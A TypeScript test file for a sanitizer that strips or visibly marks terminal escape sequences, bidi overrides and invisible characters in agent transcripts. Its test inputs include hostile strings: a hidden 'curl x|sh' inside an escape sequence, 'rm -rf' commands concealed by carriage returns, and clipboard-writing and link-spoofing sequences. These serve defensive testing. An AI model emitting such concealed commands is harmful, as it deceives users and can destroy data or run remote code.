// What agents may not do to the screen.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { exactLine, exactText } from '../../../src/model/exactText.ts';
import { cleanGrown, cleanLine, cleanText } from '../../../src/webview/transcript/cleanText.ts';
import { assertLinear } from '../support/growth.ts';

function check(text: string, expected: string) {
  assert.equal(cleanText(text), expected, JSON.stringify(text));
}

test('[W5] control characters and terminal sequences are not shown', () => {
  check('plain\ttext\n', 'plain\ttext\n');
  check('a\u0000b\u0008c\u007fd\u0085e', 'abcde');
  check('\u001b[31mred\u001b[0m', 'red');
  check('\u009b31mred', 'red');
  check('\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', 'link');
  check('\u001b]52;c;aGk=\u001b\\done', 'done');
  check('\u001bP1$r\u001b\\x', 'x');
  check('cut off \u001b[3', 'cut off ');
  check('\u001b]0;never closed\nnext', '0;never closed\nnext');
  check('a\r\nb\rc', 'a\nb\nc');
  check('\u001b', '');
});

test('[W6] what turns text around or hides it is shown', () => {
  check('a\u202eb', 'a⟦U+202E⟧b');
  check('\u2066x\u2069', '⟦U+2066⟧x⟦U+2069⟧');
  check('hi\u{e0068}\u{e0069}', 'hi⟦hidden: hi⟧');
  check('flag \u{1f3f4}\u{e0067}\u{e007f}', 'flag \u{1f3f4}\u{e0067}\u{e007f}');
  check('שלום مرحبا', 'שלום مرحبا');
});

test('[W5] a name or a title is one line', () => {
  assert.equal(cleanLine(' a\n\u001b[1mb\u001b[0m\tc '), 'a b c');
});

test('[W5] a megabyte is cleaned in time that grows with its length', () => {
  for (const seed of ['\u001b]', '\u009d', '\u001b[', '\u001b[1;', '\u202e', '\u{e0061}', '\r'])
    assertLinear(JSON.stringify(seed), 1_000_000, size => cleanText(seed.repeat(size / seed.length)));
});

test('[W93] of what a person decides about nothing is taken away, and what cannot be seen stands there by its number', () => {
  const rows: readonly (readonly [text: string, shown: string])[] = [
    ['ls -la\n\tcat x', 'ls -la\n\tcat x'],
    ['a\r\nb', 'a\nb'],
    ['rm -rf ~\rls', 'rm -rf ~⟦U+000D⟧ls'],
    // A terminal would not show it; a shell runs it all the same.
    ['ls \u001b]0;$(curl x|sh)\u0007', 'ls ⟦U+001B⟧]0;$(curl x|sh)⟦U+0007⟧'],
    ['\u009b8mhidden', '⟦U+009B⟧8mhidden'],
    ['a\u202eb\u2066c', 'a⟦U+202E⟧b⟦U+2066⟧c'],
    ['a\u200bb\u2060c\ufeffd\u00ade', 'a⟦U+200B⟧b⟦U+2060⟧c⟦U+FEFF⟧d⟦U+00AD⟧e'],
    ['a\u115f\u3164\uffa0b', 'a⟦U+115F⟧⟦U+3164⟧⟦U+FFA0⟧b'],
    ['a\u2028b', 'a⟦U+2028⟧b'],
    ['a\u{e0041}b', 'a⟦U+E0041⟧b'],
    ['a\ud800b', 'a⟦U+D800⟧b'],
    ['a\u200d\ufe0fb', 'a⟦U+200D⟧⟦U+FE0F⟧b'],
    ['👩🏽‍💻 ❤️‍🔥 ✔️', '👩🏽‍💻 ❤️‍🔥 ✔️'],
    ['a\n\n\n\n\n\nb\n\nc', 'a\n⟦5 empty lines⟧\nb\n\nc'],
    [`a${' '.repeat(300)}b`, 'a⟦300 spaces⟧b'],
    [`a${'\u3000'.repeat(100)}b`, 'a⟦100 spaces⟧b'],
    [`${' '.repeat(40)}b`, `${' '.repeat(40)}b`],
    ['a\n \n\t\n\n  b', 'a\n⟦3 empty lines⟧\n  b'],
    ['שלום مرحبا déjà', 'שלום مرحبا déjà'],
  ];
  for (const [text, shown] of rows) assert.equal(exactText(text), shown, JSON.stringify(text));
  assert.equal(exactLine(' echo a\nrm -rf / '), 'echo a ⏎ rm -rf /');
  for (const seed of ['\u200b', '\n', 'a\n', ' \n', ' ', '👩‍', '\u001b['])
    assertLinear(JSON.stringify(seed), 1_000_000, size => exactText(seed.repeat(size / seed.length)));
});

test('[W5] a text that grows is cleaned as if it came at once', () => {
  const hidden = String.fromCodePoint(0xe0041);
  for (const text of [
    'plain words',
    `a\u001b[31mred\u001b[0m b`,
    `words ${hidden}${hidden} more`,
    'a\r\nb',
    '\u{1f3f4} x',
  ]) {
    let before = { text: '', shown: '' };
    for (let length = 0; length <= text.length; length++) {
      before = cleanGrown(text.slice(0, length), before);
      assert.equal(before.shown, cleanText(text.slice(0, length)), JSON.stringify(text.slice(0, length)));
    }
    assert.equal(cleanGrown('other', before).shown, 'other');
  }
});
